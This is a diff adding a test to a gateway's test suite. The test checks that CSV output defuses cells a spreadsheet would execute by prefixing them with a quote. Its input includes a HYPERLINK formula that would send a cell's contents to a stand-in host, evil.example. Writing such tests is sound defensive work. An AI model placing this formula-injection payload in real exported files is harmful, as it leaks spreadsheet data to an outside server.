@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import gzip
 import io
+import json
 
 from tests.inference.conftest import GatewayClient
 from tests.inference.standin_engine import StandInEngine
@@ -69,3 +70,15 @@ def test_an_upload_that_expands_too_far_is_413(make_client) -> None:  # noqa: AN
     assert response.status_code == 413
     assert response.headers["content-type"] == "application/problem+json"
     assert "more than 100000 bytes once decompressed" in response.json()["detail"]
+
+
+def test_csv_output_defuses_cells_a_spreadsheet_would_run(client: GatewayClient) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    jsonl = "".join(json.dumps({"id": i, "title": t, "abstract": "x"}) + "\n"
+                    for i, t in (("a", formula), ("b", "-omics of melanoma"),
+                                 ("c", "Plain title")))
+    response = client.post("/v1/classify_file?output=csv",
+                           files={"file": ("in.jsonl", jsonl.encode())})
+    assert response.status_code == 200, response.text
+    titles = [r["title"] for r in csv.DictReader(io.StringIO(response.text))]
+    assert titles == ["'" + formula, "'-omics of melanoma", "Plain title"]
